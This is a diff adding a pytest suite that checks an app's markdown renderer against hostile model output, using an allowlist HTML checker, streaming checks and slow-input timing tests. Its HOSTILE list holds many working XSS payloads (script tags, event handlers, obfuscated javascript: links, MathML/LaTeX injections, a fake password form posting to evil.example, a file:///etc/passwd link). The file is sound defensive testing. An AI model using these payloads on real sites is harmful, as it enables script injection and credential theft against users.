@@ -1,0 +1,319 @@
+"""Model output is hostile: whatever it says, only what is listed here may reach the page."""
+
+import re
+from collections.abc import Callable
+from html.parser import HTMLParser
+from time import process_time
+
+import pytest
+from app.markdown import StreamingMarkdown, render
+from markupsafe import Markup
+
+# Written out once more, on purpose: a tag added to the lists of the code must be added here too.
+TAGS = {
+    *("p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "br", "em"),
+    *("strong", "s", "a", "code", "pre", "span", "div", "figure", "figcaption", "table"),
+    *("thead", "tbody", "tr", "th", "td", "math", "mrow", "mi", "mn", "mo", "mtext"),
+    *("mspace", "mstyle", "mpadded", "mphantom", "mfrac", "msqrt", "mroot", "msub", "msup"),
+    *("msubsup", "munder", "mover", "munderover", "mtable", "mtr", "mtd", "menclose"),
+}
+ATTRIBUTES = {
+    *("dir", "start", "href", "rel", "title", "class", "scope", "tabindex", "role"),
+    *("aria-label", "display", "stretchy", "fence", "form", "separator", "accent"),
+    *("largeop", "movablelimits", "lspace", "rspace", "minsize", "maxsize", "mathvariant"),
+    *("width", "displaystyle", "scriptlevel", "linethickness", "rowspacing"),
+    *("columnspacing", "rowlines", "columnlines", "columnalign", "notation"),
+}
+CLASSES = re.compile(r"code|table|math|image|align-(left|center|right)|hl-[a-z]{3,10}")
+LENGTHS = {"lspace", "rspace", "minsize", "maxsize", "width", "linethickness"}
+
+U = "https://evil.example/x"
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example></SCRIPT>",
+    "<scr<script>ipt>alert(1)</script>",
+    "text <script>alert(1)</script> text",
+    "<img src=x onerror=alert(1)>",
+    f"<img src={U}>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    f"<iframe src={U}></iframe>",
+    f"<object data={U}></object>",
+    f"<embed src={U}>",
+    f"<link rel=stylesheet href={U}>",
+    f"<meta http-equiv=refresh content='0;url={U}'>",
+    f"<base href={U}>",
+    f"<form action={U}><input name=password><button>Go</button></form>",
+    f"<video src={U} autoplay></video>",
+    f"<style>@import '{U}';</style>",
+    f"<div style='background:url({U})'>a</div>",
+    "<p onclick=alert(1) id=composer class=message>a</p>",
+    "<div hidden data-action=x>a</div>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
+    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
+    "<math><maction actiontype='statusline#x' xlink:href='javascript:alert(1)'>a</maction></math>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?>",
+    "</p></div></main><h1>Sign in again</h1>",
+    "[a](javascript:alert(1))",
+    "[a](JaVaScRiPt:alert(1))",
+    "[a]( javascript:alert(1) )",
+    "[a](<javascript:alert(1)>)",
+    "[a](<java\tscript:alert(1)>)",
+    "[a](java&#10;script:alert(1))",
+    "[a](&#106;avascript:alert(1))",
+    "[a](&#x6A;&#x61;vascript&colon;alert(1))",
+    "[a](javascript&#58;alert(1))",
+    "[a](&#1;javascript:alert(1))",
+    "[a](\x01javascript:alert(1))",
+    "[a](\u00a0javascript:alert(1))",
+    "[a](\u200bjavascript:alert(1))",
+    "[a](ja\u00advascript:alert(1))",
+    "[a](\uff4aavascript:alert(1))",
+    "[a](javascript\\:alert(1))",
+    "[a](%6aavascript:alert(1))",
+    "[a](javascript%3Aalert(1))",
+    "[a](vbscript:msgbox(1))",
+    "[a](data:text/html,<script>alert(1)</script>)",
+    "[a](data:image/png;base64,AAAA)",
+    "[a](DATA:text/html;base64,PHNjcmlwdD4=)",
+    "[a](file:///etc/passwd)",
+    "[a](blob:https://evil.example/1)",
+    "[a](about:blank)",
+    "[a](intent://x#Intent;end)",
+    "[a](tel:123)",
+    "[a](//evil.example)",
+    "[a](/chats/1/replies/2/stop)",
+    "[a](?x=1)",
+    "[a](#composer)",
+    "[a](https:evil.example)",
+    "[a](https:///evil.example)",
+    "[a](http://)",
+    "[a](https:\\\\evil.example)",
+    "[a](feed:javascript:alert(1))",
+    "[a](view-source:javascript:alert(1))",
+    f'[a]({U} "\\" onmouseover=\\"alert(1)")',
+    f"[a]({U}\"onmouseover='alert(1))",
+    f'[a]({U} "<script>alert(1)</script>")',
+    f"[<img src=x onerror=alert(1)>]({U})",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "<java&#115;cript:alert(1)>",
+    '<https://evil.example/"onmouseover="alert(1)>',
+    f"![a]({U}.png)",
+    f'![a](<{U}.png> "b" )',
+    f"![![a]({U})]({U})",
+    "![a](javascript:alert(1))",
+    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
+    f'![" onerror="alert(1)]({U})',
+    f"[![a]({U})]({U})",
+    f"[a]\n\n[a]: {U}",
+    f"![a]\n\n[a]: {U}",
+    "[a]\n\n[a]: javascript:alert(1)",
+    "[a][b]\n\n[b]: <javascript:alert(1)> 'c'",
+    "```<script>alert(1)</script>\nx\n```",
+    '```"onmouseover="alert(1)\nx\n```',
+    "```html\n<script>alert(1)</script>\n```",
+    "```python\n</code></pre><script>alert(1)</script>\n```",
+    "```js\n`${'</script><script>alert(1)</script>'}`\n```",
+    "    <script>alert(1)</script>",
+    "`<script>alert(1)</script>`",
+    "|<script>|\n|---|\n|<img src=x onerror=alert(1)>|",
+    "# <script>alert(1)</script>",
+    "- <script>alert(1)</script>\n  > <svg/onload=alert(1)>",
+    r"$\text{<script>alert(1)</script>}$",
+    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
+    r"$\text{</mtext></math><script>alert(1)</script>}$",
+    r"$\mbox{<svg onload=alert(1)>}$",
+    r"$\verb|<script>alert(1)</script>|$",
+    r"$\operatorname{<script>}$",
+    r"$\href{javascript:alert(1)}{x}$",
+    rf"$\href{{{U}}}{{x}}$",
+    r"$\style{position:fixed;inset:0;background:red}{x}$",
+    r"$\class{message}{x}$",
+    r"$\cssId{composer}{x}$",
+    r"$\color{red;background:url(//evil.example)}x$",
+    r"$\textcolor{\"onclick=alert(1)}{x}$",
+    r"$\colorbox{red}{x}$",
+    r"$\rule{9999em}{9999em}$",
+    r"$\hspace{9999em}x\hspace{-9999em}y$",
+    r"$\raise{99em}{x}\lower{99em}{y}\moveleft{99em}{z}$",
+    r"$\smash{\begin{matrix}a\\b\\c\end{matrix}}$",
+    r"$\Huge{\Huge{\Huge{x}}}$",
+    r"$\unicode{x3c}script\unicode{x3e}$",
+    r"$\genfrac(){99999em}{0}{a}{b}$",
+    r"$\begin{array}{c|c}<script>&<img src=x>\\\hline a&b\end{array}$",
+    r"$$<math><mtext><script>alert(1)</script></mtext></math>$$",
+    r"\[ <annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml> \]",
+    r"\( <maction actiontype='toggle'>x</maction> \)",
+    "$</code><script>alert(1)</script>^$",
+    "$\\frac{<script>$",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\<script>alert(1)\\</script>",
+    "<\0script>alert(1)</script>",
+    "\ufeff<script>alert(1)</script>",
+    "\u202e<script>alert(1)</script>",
+    "<a href=javascript:alert(1)>a</a>",
+    "**<script>**alert(1)**</script>**",
+    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+]
+
+
+class _Checker(HTMLParser):
+    """Fails on anything that is not listed above, and on tags that don't pair."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.stack: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        assert tag in TAGS, tag
+        if tag not in ("br", "hr"):
+            self.stack.append(tag)
+        for name, value in attrs:
+            assert name in ATTRIBUTES, (tag, name)
+            assert value is not None
+            check = getattr(self, f"check_{name.replace('-', '_')}", None)
+            if check:
+                check(value)
+            if name in LENGTHS:
+                assert re.fullmatch(r"\+?\d?(\.\d+)?(em|ex|pt|px)?", value), (name, value)
+        if tag == "a":
+            assert ("rel", "noopener noreferrer nofollow") in attrs
+            assert self.stack.count("a") == 1
+
+    def handle_endtag(self, tag: str) -> None:
+        assert self.stack.pop() == tag
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError(data)
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+    def check_href(self, value: str) -> None:
+        assert re.match(r"https?://[a-z0-9\[]|mailto:", value, re.IGNORECASE), value
+        assert not re.search(r"[\s<>\"\\\x00-\x1f]", value), value
+
+    def check_class(self, value: str) -> None:
+        assert all(CLASSES.fullmatch(name) for name in value.split()), value
+
+
+def check(html: str) -> None:
+    """Parse the page's HTML and refuse what must not be in it."""
+    checker = _Checker()
+    checker.feed(html)
+    checker.close()
+    assert checker.stack == []
+
+
+def stream(text: str) -> list[Markup]:
+    """What a page shows while the text arrives, character by character, and at the end."""
+    markdown = StreamingMarkdown()
+    shown = []
+    for character in text:
+        markdown.feed(character)
+        shown.append(Markup("").join([*markdown.closed, markdown.open]))
+    markdown.finish()
+    return [*shown, Markup("").join([*markdown.closed, markdown.open])]
+
+
+def wrap_in_quote(text: str) -> str:
+    return "> - " + text.replace("\n", "\n>   ")
+
+
+def wrap_in_sentence(text: str) -> str:
+    return f"**see _{text}_** and ~~{text}~~"
+
+
+@pytest.mark.parametrize("wrap", [str, wrap_in_quote, wrap_in_sentence])
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_is_harmless(text: str, wrap: Callable[[str], str]) -> None:
+    check(render(wrap(text)))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_is_harmless_while_it_streams(text: str) -> None:
+    for html in stream(text):
+        check(html)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_is_shown_rather_than_lost(text: str) -> None:
+    assert render(text).striptags().strip() or text.startswith(("$\\rule", "$\\hspace"))
+
+
+@pytest.mark.parametrize("text", [text for text in HOSTILE if text.startswith("[a](")])
+def test_only_web_and_mail_addresses_become_links(text: str) -> None:
+    html = render(text)
+    assert ("<a " in html) == (U in text)
+
+
+def test_everything_hostile_at_once_is_harmless() -> None:
+    check(render("\n\n".join(HOSTILE)))
+    check(render(" ".join(HOSTILE)))
+
+
+def test_the_checker_refuses_what_it_should() -> None:
+    for html in (
+        "<script></script>",
+        "<p onclick='x'></p>",
+        "<p style='x'></p>",
+        "<a href='javascript:x' rel='noopener noreferrer nofollow'></a>",
+        "<a href='http://a.b'></a>",
+        "<span class='message'></span>",
+        "<mspace width='99em'></mspace>",
+        "<p>",
+        "<!-- x -->",
+    ):
+        with pytest.raises(AssertionError):
+            check(html)
+
+
+N = 32_768
+PATHOLOGICAL = {
+    "one word": "a" * N,
+    "spaces": " " * N + "a",
+    "brackets": "[" * N,
+    "closed brackets": "[" * (N // 2) + "]" * (N // 2),
+    "links": "[a](" * (N // 4),
+    "images": "![a](" * (N // 5),
+    "nested images": "![" * 5_000 + "](b)" * 5_000,
+    "emphasis": "*a **b " * (N // 7),
+    "mixed emphasis": "*a _b **c x_ " * (N // 13),
+    "deep emphasis": "**" * 8_000 + "a" + "**" * 8_000,
+    "backticks": " ".join("`" * size for size in range(1, 255)),
+    "quotes": "> " * (N // 2),
+    "quote lines": "\n".join(">" * size + "a" for size in range(250)),
+    "lazy quote": ">" * 500 + "a\n" * 15_000,
+    "lists": "- " * (N // 2),
+    "list lines": "- a\n" * (N // 4),
+    "nested lists": "\n".join("  " * size + "- a" for size in range(180)),
+    "lines": "a\n" * (N // 2),
+    "cells": "|a" * 8_000 + "|\n" + "|-" * 8_000 + "|\n",
+    "empty cells": "|a" * 100 + "|\n" + "|-" * 100 + "|\n" + "|\n" * 10_000,
+    "angles": "<a" * (N // 2),
+    "entities": "&#" * (N // 2),
+    "dollars": "$a" * (N // 2),
+    "double dollars": "$$a " * (N // 4),
+    "only dollars": "$" * N,
+    "formulas": "".join(f"$x_{{{number}}}$ " for number in range(3_500)),
+    "open parentheses": r"\(a" * (N // 3),
+    "open brackets": "\\[\n" * (N // 3),
+    "fences": "```\n" * (N // 4),
+    "fences with code": "```py\nx\n```\n" * (N // 12),
+    "code made for a lexer": "```c\ndef " + "\n" * 6_000,
+    "backslashes": "\\" * N,
+    "everything": "**`$[<&\\(![~~_" * (N // 14),
+}
+
+
+@pytest.mark.parametrize("text", PATHOLOGICAL.values(), ids=PATHOLOGICAL)
+def test_no_text_keeps_the_server_busy(text: str) -> None:
+    before = process_time()
+    html = render(text)
+    assert process_time() - before < 3
+    check(html)
